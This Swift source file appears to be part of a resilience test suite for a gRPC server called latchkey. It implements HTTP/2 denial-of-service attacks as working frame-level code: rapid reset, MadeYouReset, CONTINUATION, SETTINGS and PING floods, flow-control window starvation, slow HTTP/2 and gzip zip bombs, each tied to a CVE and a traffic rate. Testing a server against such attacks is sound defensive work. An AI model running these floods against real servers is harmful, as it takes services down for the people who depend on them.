import Foundation
import HTTPSupport
import TestSupport

/// What can be done with frames of HTTP/2 to a server that would rather serve.
extension ConnectionAttack {
  private static let grpc: Fields = [("content-type", "application/grpc"), ("te", "trailers")]
  private static let whoAmI = HTTP2Peer.pseudo("POST", "/latchkey.v1.AuthService/WhoAmI") + grpc
  /// Encoded once: whoever attacks is to be busy with sending.
  private static let whoAmIBlock = HTTP2Frame.block(whoAmI)

  /// The head of a call, after which more is to come.
  private static func ask(_ stream: UInt32) -> [UInt8] {
    HTTP2Frame(
      HTTP2Frame.Kind.headers, flags: HTTP2Frame.Flag.endHeaders, stream: stream, whoAmIBlock
    ).encoded()
  }

  private static func repeated(_ bytes: [UInt8], _ count: Int) -> [UInt8] {
    (0..<count).reduce(into: []) { all, _ in all += bytes }
  }

  /// CVE-2023-44487: streams that are opened and reset before they are answered.
  static let rapidReset = ConnectionAttack(
    name: "rapid reset", rate: "20,000 streams/s opened and reset at once, on 4 connections"
  ) { scene in
    var peers = FramePeers(scene, count: 4)
    scene.pace(200) { number in
      peers.use(number) { peer in
        let frames = (0..<100).flatMap { _ in
          let stream = peer.takeStream()
          return ask(stream) + HTTP2Frame.reset(stream).encoded()
        }
        return peer.write(frames)
      }
    }
  }

  /// CVE-2025-8671: streams that the server is made to reset.
  static let madeYouReset = ConnectionAttack(
    name: "made-you-reset", rate: "20,000 streams/s that break a rule once they are open, on 4 connections"
  ) { scene in
    var peers = FramePeers(scene, count: 4)
    scene.pace(200) { number in
      peers.use(number) { peer in
        let frames = (0..<100).flatMap { _ in
          let stream = peer.takeStream()
          return ask(stream)
            + HTTP2Frame.windowUpdate(stream, 0).encoded()
        }
        return peer.write(frames)
      }
    }
  }

  /// CVE-2024-28182: a header block that never ends.
  static let continuationFlood = ConnectionAttack(
    name: "CONTINUATION flood",
    rate: "6,400 frames/s of 1 KiB in header blocks that do not end, on 4 connections"
  ) { scene in
    var peers = FramePeers(scene, count: 4)
    let piece = HTTP2Frame.block([("x-padding", String(repeating: "a", count: 1000))])
    scene.pace(100) { number in
      peers.use(number) { peer in
        if peer.block == 0 {
          peer.block = peer.takeStream()
          let start = HTTP2Frame(HTTP2Frame.Kind.headers, stream: peer.block, whoAmIBlock)
          guard peer.write(start.encoded()) else { return false }
        }
        let more = HTTP2Frame(HTTP2Frame.Kind.continuation, stream: peer.block, piece).encoded()
        return peer.write(repeated(more, 64))
      }
    }
  }

  /// CVE-2019-9515: each SETTINGS wants an answer.
  static let settingsFlood = ConnectionAttack(
    name: "SETTINGS flood", rate: "20,000 SETTINGS/s on 4 connections that read nothing"
  ) { scene in
    var peers = FramePeers(scene, count: 4, reads: false)
    let settings = HTTP2Frame.settings([(4, 65_535)]).encoded()
    scene.pace(200) { number in
      peers.use(number) { $0.write(repeated(settings, 100)) }
    }
  }

  /// CVE-2019-9512: each PING wants an answer.
  static let pingFlood = ConnectionAttack(
    name: "PING flood", rate: "20,000 PINGs/s on 4 connections that read nothing"
  ) { scene in
    var peers = FramePeers(scene, count: 4, reads: false)
    let ping = HTTP2Frame.ping().encoded()
    scene.pace(200) { number in
      peers.use(number) { $0.write(repeated(ping, 100)) }
    }
  }

  /// CVE-2019-9511 and 9517: large answers, taken a byte at a time.
  static let tinyWindows = ConnectionAttack(
    name: "tiny windows",
    rate: "400 answers of some 100 KiB asked for on 4 connections, 4,000 bytes/s let through"
  ) { scene in
    var peers = FramePeers(scene, count: 4, settings: [(4, 1)])
    let begun = HTTP2Frame.windowUpdate(0, 1 << 20).encoded()
    scene.pace(200) { number in
      peers.use(number) { peer in
        if peer.streams.count < 100 { return peer.write(begun + Self.askForMuch(on: &peer)) }
        let updates = (0..<20).flatMap { index in
          HTTP2Frame.windowUpdate(peer.streams[(number + index) % peer.streams.count], 1).encoded()
        }
        return peer.write(updates)
      }
    }
  }

  /// CVE-2019-9517: many large answers, of which none is taken.
  static let closedWindows = ConnectionAttack(
    name: "closed windows",
    rate: "up to 1,280 answers of some 100 KiB asked for, 200/s on 4 connections, none taken"
  ) { scene in
    var peers = FramePeers(scene, count: 4, settings: [(4, 0)])
    scene.pace(200) { number in
      peers.use(number) { peer in
        guard peer.streams.count < 320 else { return true }
        return peer.write(Self.askForMuch(on: &peer))
      }
    }
  }

  /// The whole contract with all that it imports: what a stranger may ask for, and is large.
  private static func askForMuch(on peer: inout FramePeer) -> [UInt8] {
    let stream = peer.takeStream()
    peer.streams.append(stream)
    let path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
    // ServerReflectionRequest.file_containing_symbol
    let name = Array("latchkey.v1.AdminService".utf8)
    let question = Enveloped([4 << 3 | 2, UInt8(name.count)] + name).encoded()
    return HTTP2Frame.request(stream, HTTP2Peer.pseudo("POST", path) + grpc, end: false).encoded()
      + HTTP2Frame(
        HTTP2Frame.Kind.data, flags: HTTP2Frame.Flag.endStream, stream: stream, question
      ).encoded()
  }

  /// Heads and bodies that come a byte at a time, and never to their end.
  static let slowFrames = ConnectionAttack(
    name: "slow HTTP/2",
    rate: "200 connections × 10 bytes/s: half of them heads without an end, half of them bodies"
  ) { scene in
    var peers = FramePeers(scene, count: 200)
    scene.pace(2000) { number in
      peers.use(number) { peer in
        if peer.block == 0 {
          peer.block = peer.takeStream()
          let isHead = number % 2 == 0
          let head = HTTP2Frame(
            HTTP2Frame.Kind.headers, flags: isHead ? 0 : HTTP2Frame.Flag.endHeaders, stream: peer.block,
            whoAmIBlock)
          let body = HTTP2Frame(
            isHead ? HTTP2Frame.Kind.continuation : HTTP2Frame.Kind.data, stream: peer.block)
          return peer.write(head.encoded() + body.encoded(announcing: 1000))
        }
        return peer.write([0])
      }
    }
  }

  /// Few bytes that stand for very many.
  static let zipBombs = ConnectionAttack(
    name: "zip bombs", rate: "50 messages/s of 26 KiB that stand for more than 4 MiB, on 4 connections"
  ) { scene in
    var peers = FramePeers(scene, count: 4)
    let bomb = Enveloped(flags: 1, Bomb.gzip(bytes: (4 << 20) + 1000)).encoded()
    let fields = whoAmI + [("grpc-encoding", "gzip")]
    scene.pace(50) { number in
      peers.use(number) { peer in
        let stream = peer.takeStream()
        var frames = HTTP2Frame.request(stream, fields, end: false).encoded()
        for start in stride(from: 0, to: bomb.count, by: 16_000) {
          let piece = Array(bomb[start..<min(start + 16_000, bomb.count)])
          let isEnd = start + 16_000 >= bomb.count ? HTTP2Frame.Flag.endStream : 0
          frames += HTTP2Frame(HTTP2Frame.Kind.data, flags: isEnd, stream: stream, piece).encoded()
        }
        // What was taken may be sent again.
        return peer.write(frames)
      }
    }
  }
}

/// Connections whose other end speaks HTTP/2. One that the server ends is opened anew.
private struct FramePeers {
  private let scene: AttackScene
  private let settings: [(UInt16, UInt32)]
  private let reads: Bool
  private var peers: [FramePeer?]
  private var opened = 0

  init(_ scene: AttackScene, count: Int, settings: [(UInt16, UInt32)] = [], reads: Bool = true) {
    self.scene = scene
    self.settings = settings
    self.reads = reads
    peers = Array(repeating: nil, count: count)
  }

  /// - Parameter body: does something with one of them; false when it could not.
  mutating func use(_ number: Int, _ body: (inout FramePeer) -> Bool) {
    let index = number % peers.count
    if peers[index] == nil {
      opened += 1
      peers[index] = scene.connectHTTP(opened).map(FramePeer.init)
      guard peers[index]?.write(HTTP2Frame.preface + HTTP2Frame.settings(settings).encoded()) == true else {
        peers[index] = nil
        return scene.fault("no connection")
      }
    }
    guard var peer = peers[index] else { return }
    let isOpen = body(&peer) && (!reads || peer.connection.drain() != nil)
    peers[index] = isOpen ? peer : nil
  }
}

private struct FramePeer {
  let connection: RawConnection
  private var nextStream: UInt32 = 1
  /// The stream that is being opened, or sent to.
  var block: UInt32 = 0
  var streams: [UInt32] = []

  init(_ connection: RawConnection) { self.connection = connection }

  mutating func takeStream() -> UInt32 {
    defer { nextStream += 2 }
    return nextStream
  }

  /// False when the server has closed. What it does not take at once is dropped.
  func write(_ bytes: [UInt8]) -> Bool { connection.offer(bytes) }
}
